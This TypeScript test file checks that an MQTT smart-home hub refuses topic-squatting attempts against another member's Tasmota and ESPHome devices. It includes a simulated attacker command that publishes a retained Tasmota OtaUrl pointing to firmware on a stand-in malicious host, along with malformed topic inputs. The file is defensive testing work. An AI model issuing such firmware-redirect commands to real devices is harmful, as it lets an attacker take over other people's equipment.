import type { MqttClient } from 'mqtt'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type TestHub, collect, connectDevice, startTestHub } from '../helpers/hub.ts'

// Issue 12, item 2, as an attacker would try it through a real hub: a workshop joiner (via
// /api/me/devices) and an organizer registering for a member (via /api/admin/devices) claim
// another member's firmware topics, shared roots and reserved roots. Every claim is refused
// with a reason that names the firmware setting and never the other member; and the victim's
// Tasmota is neither read nor commanded by anything the attacker can register.

interface Attempt { body: Record<string, unknown>, status: 400 | 409, setting: RegExp }
const TASMOTA = /Tasmota `Topic`/
const ESPHOME = /ESPHome `topic_prefix`/
const Z2M = /Zigbee2MQTT `base_topic`/
const HA = /the base topic the device publishes under/
const AUTO = /Tasmota `Topic`, ESPHome `topic_prefix` or Shelly `mqtt.topic_prefix`/

/** The victim holds Tasmota `plug1` (tele|stat|cmnd/plug1/, plug1/tele|stat|cmnd/) and ESPHome `farm/greenhouse`. */
const ATTEMPTS: Attempt[] = [
  // The issue's own examples: a whole shared root, and the victim's command tree.
  { body: { format: 'homeassistant', topic: 'tele' }, status: 400, setting: HA },
  { body: { format: 'homeassistant', topic: 'cmnd/plug1' }, status: 409, setting: HA },
  { body: { format: 'esphome', topic: 'tele/plug1' }, status: 409, setting: ESPHOME },
  { body: { format: 'shelly', topic: 'stat/plug1/RESULT' }, status: 409, setting: /Shelly `mqtt.topic_prefix`/ },
  { body: { format: 'auto', topic: 'cmnd' }, status: 400, setting: AUTO },
  { body: { format: 'auto', topic: 'stat' }, status: 400, setting: AUTO },
  // The victim's Tasmota topic itself, a prefix and an extension of it.
  { body: { format: 'tasmota', topic: 'plug1' }, status: 409, setting: TASMOTA },
  { body: { format: 'tasmota', topic: 'plug1/sub' }, status: 409, setting: TASMOTA },
  { body: { format: 'esphome', topic: 'plug1' }, status: 409, setting: ESPHOME },
  { body: { format: 'homeassistant', topic: 'plug1/cmnd/POWER' }, status: 409, setting: HA },
  // A prefix and an extension of the victim's ESPHome topic.
  { body: { format: 'esphome', topic: 'farm' }, status: 409, setting: ESPHOME },
  { body: { format: 'homeassistant', topic: 'farm/greenhouse/switch' }, status: 409, setting: HA },
  // Zigbee2MQTT's shared default and another member's per-member default.
  { body: { format: 'zigbee2mqtt', topic: 'zigbee2mqtt' }, status: 400, setting: Z2M },
  { body: { format: 'zigbee2mqtt', topic: 'zigbee2mqtt_victim' }, status: 400, setting: Z2M },
  { body: { format: 'homeassistant', topic: 'zigbee2mqtt_victim_2/x' }, status: 400, setting: HA },
  // Reserved roots: Tsudoi's own tree, the discovery tree, broker topics.
  { body: { format: 'homeassistant', topic: 'tsudoi' }, status: 400, setting: HA },
  { body: { format: 'esphome', topic: 'tsudoi/victim/victim-plug' }, status: 400, setting: ESPHOME },
  { body: { format: 'tasmota', topic: 'homeassistant' }, status: 400, setting: TASMOTA },
  { body: { format: 'homeassistant', topic: 'homeassistant/sensor' }, status: 400, setting: HA },
  { body: { format: 'homeassistant', topic: '$SYS' }, status: 400, setting: HA },
  { body: { format: 'esphome', topic: '$share/g/tele' }, status: 400, setting: ESPHOME },
  // Malformed.
  { body: { format: 'esphome', topic: 'a//b' }, status: 400, setting: ESPHOME },
  { body: { format: 'esphome', topic: 'a/' }, status: 400, setting: ESPHOME },
  { body: { format: 'esphome', topic: '/a' }, status: 400, setting: ESPHOME },
  { body: { format: 'esphome', topic: '' }, status: 400, setting: ESPHOME },
  { body: { format: 'esphome', topic: 'a\u0000b' }, status: 400, setting: ESPHOME },
  { body: { format: 'esphome', topic: 'a\u001bb' }, status: 400, setting: ESPHOME },
  { body: { format: 'esphome', topic: 'tele/+' }, status: 400, setting: ESPHOME },
  { body: { format: 'esphome', topic: 'x'.repeat(129) }, status: 400, setting: ESPHOME },
  // No topic: the default is the device id, and an id can be a shared root or the victim's topic.
  { body: { format: 'esphome', id: 'tele' }, status: 400, setting: ESPHOME },
  { body: { format: 'esphome', id: 'plug1' }, status: 409, setting: ESPHOME }
]

describe('topic squatting through a real hub', () => {
  let t: TestHub
  let victimKey: string
  let joinerKey: string
  const token: Record<string, string> = {}
  let attempt = 0

  beforeAll(async () => {
    t = await startTestHub()
    victimKey = (await t.admin('/api/admin/members', { id: 'victim', name: 'Victim Ryokan', sector: 'accommodation' })).body.accessKey
    await t.admin('/api/admin/members', { id: 'mallory', name: 'Mallory Shop', sector: 'retail' })
    for (const [id, format, topic] of [['victim-plug', 'tasmota', 'plug1'], ['victim-esp', 'esphome', 'farm/greenhouse']] as const) {
      const created = await t.admin('/api/admin/devices', { member: 'victim', id, name: id, format, topic })
      expect(created.status).toBe(201)
      token[id] = created.body.token
    }
    const workshop = (await t.admin('/api/admin/workshops', { name: 'Squat', expiresAt: Date.now() + 3_600_000 })).body
    const joined = await t.api('/api/join', { body: { code: workshop.code, name: 'Joiner', sector: 'retail' } })
    expect(joined.status).toBe(201)
    joinerKey = joined.body.member.accessKey
  })
  afterAll(async () => { await t?.stop() })

  const routes = {
    'a workshop joiner via /api/me/devices': (body: Record<string, unknown>) =>
      t.api('/api/me/devices', { token: joinerKey, body: { name: 'squat', ...body } }),
    'an organizer for a member via /api/admin/devices': (body: Record<string, unknown>) =>
      t.admin('/api/admin/devices', { member: 'mallory', name: 'squat', ...body, id: body.id ?? `squat-${++attempt}` })
  }

  describe.each(Object.entries(routes))('as %s', (_, register) => {
    it.each(ATTEMPTS.map((a) => [JSON.stringify(a.body), a] as const))('refuses %s', async (_, { body, status, setting }) => {
      const response = await register(body)
      expect(response.status).toBe(status)
      expect(response.body).toEqual({ error: { code: status === 400 ? 'VALIDATION_FAILED' : 'CONFLICT', message: expect.stringMatching(setting), ...(status === 400 ? { details: { fields: [{ field: 'topic', message: expect.any(String) }] } } : {}) } })
      // Nothing about the holder: not its member, nor its device, nor its topic beyond what the attacker typed.
      const shown = String(response.body.error.message).replaceAll(String(body.topic ?? body.id), '')
      for (const secret of ['victim', 'Victim', 'plug1', 'greenhouse']) expect(shown).not.toContain(secret)
    })
  })

  it('lets a member claim a name of its own, its own Zigbee2MQTT defaults, and the firmware roots\' subtrees that nobody holds', async () => {
    const mine = async (body: Record<string, unknown>) => (await t.api('/api/me/devices', { token: joinerKey, body: { name: 'mine', ...body } })).body.topic
    expect(await mine({ format: 'tasmota', topic: 'plug10' })).toBe('plug10')
    expect(await mine({ format: 'homeassistant', topic: 'tele/plug2' })).toBe('tele/plug2')
    expect(await mine({ format: 'esphome', topic: 'farm/orchard' })).toBe('farm/orchard')
    const z2m = await mine({ format: 'zigbee2mqtt' })
    expect(z2m).toMatch(/^zigbee2mqtt_joiner-[0-9a-f]{6}$/)
    expect(await mine({ format: 'zigbee2mqtt' })).toBe(`${z2m}_2`)
    const victimBridge = await t.api('/api/me/devices', { token: victimKey, body: { name: 'bridge', format: 'zigbee2mqtt' } })
    expect(victimBridge.body).toMatchObject({ topic: 'zigbee2mqtt_victim', setup: { zigbee2mqtt: expect.stringContaining('base_topic: zigbee2mqtt_victim') } })
  })

  describe('the victim\'s Tasmota, end to end', () => {
    let victim: MqttClient
    let attacker: MqttClient
    const victimSeen: string[] = []
    const attackerSeen: string[] = []
    let attackerErrors: ReturnType<typeof collect>
    let attackerTopics: { telemetry: string, errors: string }
    let victimErrors: ReturnType<typeof collect>

    beforeAll(async () => {
      // The attacker's best: a device registered next to the victim's topic.
      const device = (await t.api('/api/me/devices', { token: joinerKey, body: { name: 'next door', format: 'homeassistant', topic: 'plug1x' } })).body
      expect(device.topic).toBe('plug1x')
      attacker = await connectDevice(t.hub.mqttUrl, device.id, device.token)
      attackerTopics = { telemetry: device.mqtt.topic, errors: device.mqtt.errorsTopic }
      attackerErrors = collect(attacker, attackerTopics.errors)
      attacker.on('message', (topic) => attackerSeen.push(topic))
      victim = await connectDevice(t.hub.mqttUrl, 'victim-plug', token['victim-plug']!)
      victimErrors = collect(victim, 'tsudoi/victim/victim-plug/errors')
      victim.on('message', (topic) => victimSeen.push(topic))
      expect(await victim.subscribeAsync(['cmnd/plug1/#', 'tsudoi/victim/victim-plug/errors'])).toEqual([
        { topic: 'cmnd/plug1/#', qos: 0 }, { topic: 'tsudoi/victim/victim-plug/errors', qos: 0 }])
    })
    afterAll(() => { attacker?.end(true); victim?.end(true) })

    /** A refusal the device itself provokes on its own errors topic: a message it does expect, after everything sent before it. */
    const control = async (client: MqttClient, errors: ReturnType<typeof collect>, telemetry: string) => {
      await client.publishAsync(telemetry, 'not json', { qos: 1 })
      expect(await errors.next()).toMatchObject({ code: 'INVALID_JSON', topic: telemetry })
    }

    it('refuses every subscription that would reach the victim\'s trees (SUBACK 0x80)', async () => {
      const granted = await attacker.subscribeAsync(['tele/#', 'tele/plug1/#', 'cmnd/plug1/#', '+/plug1/#', 'plug1/#', '#', 'tele/+/SENSOR', attackerTopics.errors])
        .then(() => { throw new Error('expected refusals') }, (error: any) => error.packet.granted)
      expect(granted).toEqual([128, 128, 128, 128, 128, 128, 128, 0])
    })

    it('does not deliver the victim\'s tele/plug1/SENSOR to the attacker', async () => {
      await victim.publishAsync('tele/plug1/SENSOR', JSON.stringify({ AM2301: { Temperature: 21.5, Humidity: 40 }, TempUnit: 'C' }), { qos: 1 })
      await control(attacker, attackerErrors, attackerTopics.telemetry)
      expect(attackerSeen).toEqual([attackerTopics.errors])
      attackerSeen.length = 0
    })

    it('does not deliver the attacker\'s cmnd/plug1/POWER, nor a retained cmnd/plug1/OtaUrl, to the victim\'s plug', async () => {
      await attacker.publishAsync('cmnd/plug1/POWER', 'OFF', { qos: 1 })
      expect(await attackerErrors.next()).toMatchObject({ code: 'TOPIC_NOT_ALLOWED', topic: 'cmnd/plug1/POWER' })
      await attacker.publishAsync('cmnd/plug1/OtaUrl', 'http://evil.example/fw.bin', { qos: 1, retain: true })
      expect(await attackerErrors.next()).toMatchObject({ code: 'TOPIC_NOT_ALLOWED', topic: 'cmnd/plug1/OtaUrl' })
      await control(victim, victimErrors, 'tsudoi/victim/victim-plug/telemetry')
      expect(victimSeen).toEqual(['tsudoi/victim/victim-plug/errors'])

      // The plug reconnects: nothing retained waits for it under cmnd/plug1/.
      victim.end(true)
      const again = await connectDevice(t.hub.mqttUrl, 'victim-plug', token['victim-plug']!)
      const seen: string[] = []
      again.on('message', (topic) => seen.push(topic))
      const errors = collect(again, 'tsudoi/victim/victim-plug/errors')
      await again.subscribeAsync(['cmnd/plug1/#', 'tsudoi/victim/victim-plug/errors'])
      await control(again, errors, 'tsudoi/victim/victim-plug/telemetry')
      expect(seen).toEqual(['tsudoi/victim/victim-plug/errors'])
      again.end(true)
    })
  })
})
